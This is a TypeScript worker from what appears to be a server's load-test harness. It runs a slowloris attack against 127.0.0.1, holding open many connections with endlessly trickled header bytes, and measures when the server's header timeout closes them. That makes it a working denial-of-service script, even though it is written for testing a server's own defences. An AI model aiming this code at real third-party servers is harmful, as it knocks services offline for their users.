/**
 * The attacking side of `npm run attack -- slowloris`, in a worker thread so that its event
 * loop does not delay the measuring client's: opens `connections` connections to porta, sends
 * a request line and then trickles header bytes (one field line, a byte at a time, each
 * connection every `trickleMs`), never ending the head. Reports when all are open, then the
 * time at which each one was closed by the server.
 */
import { connect, type Socket } from 'node:net';
import { parentPort, workerData } from 'node:worker_threads';

interface Job {
  readonly port: number;
  readonly connections: number;
  readonly trickleMs: number;
}

export type WorkerMessage =
  | { readonly kind: 'open'; readonly open: number; readonly failed: number; readonly ms: number }
  | { readonly kind: 'closed'; readonly closeTimes: readonly number[]; readonly stillOpen: number };

const { port, connections, trickleMs } = workerData as Job;
const post = (message: WorkerMessage): void => parentPort?.postMessage(message);
const FIELD = Buffer.from('X-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n', 'latin1');

const sockets: Socket[] = [];
/** Bytes of FIELD sent so far on each connection (same index as sockets). */
const sent: number[] = [];
const closeTimes: number[] = [];
let failed = 0;
const started = Date.now();

function open(): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', port });
    let settled = false;
    socket.on('connect', () => {
      settled = true;
      socket.write('GET /2k.txt HTTP/1.1\r\nHost: slow\r\n');
      sockets.push(socket);
      sent.push(0);
      resolve();
    });
    socket.on('data', () => undefined);
    socket.on('error', () => {
      if (!settled) {
        settled = true;
        failed++;
        resolve();
      }
    });
    socket.on('close', () => {
      if (settled) closeTimes.push(Date.now());
    });
  });
}

// Open in waves (a full SYN backlog would only measure the kernel).
for (let i = 0; i < connections; i += 250) {
  await Promise.all(Array.from({ length: Math.min(250, connections - i) }, () => open()));
}
post({ kind: 'open', open: sockets.length, failed, ms: Date.now() - started });

// Trickle: every 10 ms, one byte to a slice of the connections, so each gets one per trickleMs.
let position = 0;
const perTick = Math.max(1, Math.ceil(sockets.length / (trickleMs / 10)));
const trickle = setInterval(() => {
  for (let i = 0; i < perTick && sockets.length > 0; i++) {
    const index = position++ % sockets.length;
    const socket = sockets[index] as Socket;
    if (socket.destroyed) continue;
    const offset = (sent[index] as number) % FIELD.length;
    sent[index] = offset + 1;
    socket.write(FIELD.subarray(offset, offset + 1));
  }
}, 10);

// The server closes them at its header timeout; wait for that (or give up after a minute).
const deadline = Date.now() + 120_000;
while (closeTimes.length < sockets.length && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 100));
clearInterval(trickle);
post({ kind: 'closed', closeTimes, stillOpen: sockets.length - closeTimes.length });
for (const socket of sockets) socket.destroy();
